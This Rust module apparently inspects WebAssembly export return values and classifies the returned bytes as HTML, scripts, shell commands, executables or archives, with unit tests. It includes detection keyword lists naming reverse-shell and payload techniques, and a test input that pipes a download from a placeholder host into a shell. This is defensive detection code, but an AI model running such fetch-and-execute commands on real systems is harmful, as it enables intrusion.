//! What exports hand to whoever calls them: a page, a script, a command, a program, an archive at the address
//! that one returned.
//!
//! An address is a result, a pair of address and length among the results or packed into one, or such a pair
//! in memory where a result or the first argument points. Text is UTF-8 or, as AssemblyScript keeps it,
//! UTF-16. Modules are left to `carve`.

use std::collections::BTreeSet;

use sha2::{Digest as _, Sha256};

use super::limits::{RETURNED_BYTES, RETURNED_KEPT, RETURNED_SCAN, RETURNED_SCANNED};
use crate::{Value, text::vocabulary};

vocabulary! {
    /// What returned bytes are.
    pub enum Contents {
        /// HTML.
        Page = "page",
        /// JavaScript.
        Script = "script",
        /// A command line, or a script of a shell.
        Command = "command",
        /// An ELF or PE file.
        Program = "program",
        /// A compressed file or an archive.
        Archive = "archive",
    }
}

/// What an export returned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Returned {
    /// What it is.
    pub contents: Contents,
    /// The first of its bytes, at most 64 KiB; text as UTF-8.
    pub bytes: Vec<u8>,
}

/// Letters of text that is looked at; shorter ones are words.
const LEAST: usize = 24;
/// An address below this is a number.
const FIRST_ADDRESS: u64 = 64;

impl Returned {
    /// What bytes are, if they are any of it.
    pub(crate) fn of(bytes: Vec<u8>) -> Option<Self> {
        let contents = program(&bytes).or_else(|| archive(&bytes)).or_else(|| text(&bytes))?;
        Some(Self { contents, bytes })
    }
}

/// What was found in a run.
#[derive(Debug, Default)]
pub(super) struct Returns {
    pub(super) kept: Vec<Returned>,
    seen: BTreeSet<[u8; 32]>,
    bytes: usize,
    scanned: usize,
    /// Things that were not kept for want of room.
    pub(super) cut: u64,
}

impl Returns {
    /// Looks at what an entry that got `args` returned.
    pub(super) fn look(&mut self, args: &[Value], results: &[Value], memory: &[u8]) {
        for (address, len) in addresses(args, results, memory) {
            if self.scanned >= RETURNED_SCANNED {
                return;
            }
            let Some(from) = usize::try_from(address).ok().and_then(|address| memory.get(address..)) else {
                continue;
            };
            let window = len.unwrap_or(usize::MAX).min(RETURNED_SCAN).min(from.len());
            let head = from.get(..window).unwrap_or_default();
            self.scanned += 256;
            for bytes in readings(head, len.is_some()).into_iter().flatten() {
                self.scanned += bytes.len();
                if let Some(returned) = Returned::of(bytes) {
                    self.keep(returned);
                    break;
                }
            }
        }
    }

    fn keep(&mut self, returned: Returned) {
        if !self.seen.insert(Sha256::digest(&returned.bytes).into()) {
            return;
        }
        if self.kept.len() == RETURNED_KEPT || self.bytes + returned.bytes.len() > RETURNED_BYTES {
            self.cut += 1;
            return;
        }
        self.bytes += returned.bytes.len();
        self.kept.push(returned);
    }
}

/// Where something may lie, with its length if that is known.
fn addresses(args: &[Value], results: &[Value], memory: &[u8]) -> BTreeSet<(u64, Option<usize>)> {
    let mut found = BTreeSet::new();
    let as_u32 = |value: &Value| match *value {
        Value::I32(value) => Some(u64::from(value as u32)),
        _ => None,
    };
    for (position, value) in results.iter().enumerate() {
        match (*value, results.get(position + 1)) {
            (Value::I32(address), Some(&Value::I32(len))) if len > 0 => {
                found.insert((u64::from(address as u32), Some(len as u32 as usize)));
            }
            (Value::I64(both), _) => {
                let (high, low) = ((both as u64) >> 32, both as u64 & 0xffff_ffff);
                found.extend([(high, Some(low as usize)), (low, Some(high as usize)), (both as u64, None)]);
            }
            _ => {}
        }
        found.extend(as_u32(value).map(|address| (address, None)));
    }
    // A pair behind a pointer: what a result points at, or the place for results that the caller gave.
    let pointers = results.iter().chain(args.first()).filter_map(as_u32);
    let pairs: Vec<_> = pointers.filter_map(|address| pair_at(memory, address)).collect();
    found.extend(pairs);
    found.retain(|(address, len)| *address >= FIRST_ADDRESS && len.is_none_or(|len| len >= 4));
    found
}

fn pair_at(memory: &[u8], address: u64) -> Option<(u64, Option<usize>)> {
    let words: &[u8; 8] = memory.get(usize::try_from(address).ok()?..)?.first_chunk()?;
    let word = |at: usize| u32::from_le_bytes([words[at], words[at + 1], words[at + 2], words[at + 3]]);
    let (start, len) = (word(0), word(4) as usize);
    let is_inside = (start as usize).checked_add(len).is_some_and(|end| end <= memory.len());
    (start >= 1024 && len >= LEAST && is_inside).then_some((start.into(), Some(len)))
}

/// The bytes as they stand, as text up to its end, and as UTF-16.
fn readings(head: &[u8], has_len: bool) -> [Option<Vec<u8>>; 2] {
    let is_binary = program(head).or_else(|| archive(head)).is_some();
    if is_binary {
        return [Some(head.to_vec()), None];
    }
    let is_text = |byte: &u8| *byte >= b' ' && *byte != 0x7f || matches!(byte, b'\t' | b'\n' | b'\r' | 0x0c);
    let len = head.iter().position(|byte| !is_text(byte)).unwrap_or(head.len());
    // Of a known length all of it is text, or a zero ends it.
    let is_whole = !has_len || head.get(len).is_none_or(|byte| *byte == 0);
    let utf8 = head.get(..len).filter(|text| text.len() >= LEAST && is_whole).map(<[u8]>::to_vec);
    let units = head.as_chunks::<2>().0.iter().map(|pair| u16::from_le_bytes(*pair));
    let wide: Vec<u16> = units.take_while(|unit| *unit >= 9).collect();
    let utf16 = (utf8.is_none() && wide.len() >= LEAST).then(|| String::from_utf16_lossy(&wide).into_bytes());
    [utf8, utf16]
}

fn program(bytes: &[u8]) -> Option<Contents> {
    let is_elf = matches!(bytes, [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..]);
    let pe = || {
        let at = u32::from_le_bytes(*bytes.get(0x3c..)?.first_chunk()?) as usize;
        bytes.get(at..)?.starts_with(b"PE\0\0").then_some(())
    };
    let is_program = is_elf || bytes.starts_with(b"MZ") && pe().is_some();
    is_program.then_some(Contents::Program)
}

fn archive(bytes: &[u8]) -> Option<Contents> {
    let is_one = matches!(
        bytes,
        [b'P', b'K', 3, 4, ..=63, ..]
            | [0x1f, 0x8b, 8, ..=31, ..]
            | [b'7', b'z', 0xbc, 0xaf, 0x27, 0x1c, ..]
            | [0xfd, b'7', b'z', b'X', b'Z', 0, ..]
            | [b'B', b'Z', b'h', b'1'..=b'9', b'1', b'A', b'Y', b'&', ..]
            | [b'R', b'a', b'r', b'!', 0x1a, 7, ..]
            | [0x28, 0xb5, 0x2f, 0xfd, ..]
    );
    is_one.then_some(Contents::Archive)
}

/// A page of HTML has one of these.
const TAGS: &[&str] = &[
    "<!doctype html",
    "<html",
    "<head>",
    "<body",
    "<script",
    "<iframe",
    "<form ",
    "<meta http-equiv",
    "<embed ",
    "<object ",
];
/// A command of a shell has one of these.
const COMMANDS: &[&str] = &[
    "powershell",
    "cmd /c",
    "cmd.exe /c",
    "/bin/sh -c",
    "/bin/bash -c",
    "/dev/tcp/",
    "| sh",
    "| bash",
    "mshta ",
];
/// What a script does: it has one of these, and others that show that it is code.
const ACTS: &[&str] = &[
    "document.",
    "window.",
    "eval(",
    "atob(",
    "location.",
    "location=",
    "fetch(",
    "xmlhttprequest",
    "importscripts(",
    "require(",
    "fromcharcode",
    "new function(",
];
/// What stands in code of all kinds.
const CODE: &[&str] = &["function", "=>", "var ", "let ", "const ", "();", "return ", "){"];

fn text(bytes: &[u8]) -> Option<Contents> {
    let lower = std::str::from_utf8(bytes).ok()?.to_lowercase();
    let count = |words: &[&str]| words.iter().filter(|word| lower.contains(**word)).count();
    if count(TAGS) > 0 {
        return Some(Contents::Page);
    }
    if lower.starts_with("#!/") || count(COMMANDS) > 0 {
        return Some(Contents::Command);
    }
    // Prose has the words too, and not the marks.
    let is_code = lower.contains('(') && lower.contains(';');
    (is_code && count(ACTS) > 0 && count(CODE) + count(ACTS) >= 3).then_some(Contents::Script)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(args: &[Value], results: &[Value], memory: &[u8]) -> Vec<Contents> {
        let mut returns = Returns::default();
        returns.look(args, results, memory);
        returns.kept.iter().map(|returned| returned.contents).collect()
    }

    const PAGE: &[u8] = b"<html><body onload=go()></body></html>";

    fn memory(parts: &[(usize, &[u8])]) -> Vec<u8> {
        let mut memory = vec![0; 8192];
        for (at, bytes) in parts {
            memory[*at..at + bytes.len()].copy_from_slice(bytes);
        }
        memory
    }

    #[test]
    fn a_page_is_found_however_it_is_returned() {
        let pair = [2048u32.to_le_bytes(), (PAGE.len() as u32).to_le_bytes()].concat();
        let wide: Vec<u8> = PAGE.iter().flat_map(|byte| [*byte, 0]).collect();
        let memory = memory(&[(2048, PAGE), (4096, &pair), (6000, &wide)]);
        let len = PAGE.len() as i32;
        let packed = Value::I64(2048 << 32 | i64::from(len));
        for (args, results) in [
            (vec![], vec![Value::I32(2048)]),
            (vec![], vec![Value::I32(2048), Value::I32(len)]),
            (vec![], vec![packed]),
            (vec![], vec![Value::I32(4096)]),
            (vec![Value::I32(4096)], vec![]),
            (vec![], vec![Value::I32(6000)]),
        ] {
            assert_eq!(found(&args, &results, &memory), [Contents::Page], "{args:?} {results:?}");
        }
        assert_eq!(found(&[], &[Value::I32(7)], &memory), []);
    }

    #[test]
    fn what_bytes_are() {
        let of = |bytes: &[u8]| Returned::of(bytes.to_vec()).map(|returned| returned.contents);
        assert_eq!(of(b"var a = document.createElement('a'); a.click();"), Some(Contents::Script));
        assert_eq!(of(b"curl http://192.0.2.1/x | sh -s now"), Some(Contents::Command));
        assert_eq!(of(b"PK\x03\x04\x14\0\0\0\x08\0"), Some(Contents::Archive));
        assert_eq!(of(b"\x7fELF\x02\x01\x01\0"), Some(Contents::Program));
        for plain in [
            &b"See the window. It is a function of the document, let us say."[..],
            b"<p>Some <em>marked</em> text of the user</p>",
            b"MZ, and that is all there is of it",
        ] {
            assert_eq!(of(plain), None, "{}", String::from_utf8_lossy(plain));
        }
    }

    #[test]
    fn what_was_seen_is_kept_once() {
        let memory = memory(&[(2048, PAGE)]);
        let mut returns = Returns::default();
        for _ in 0..3 {
            returns.look(&[], &[Value::I32(2048)], &memory);
        }
        assert_eq!(returns.kept.len(), 1);
    }
}
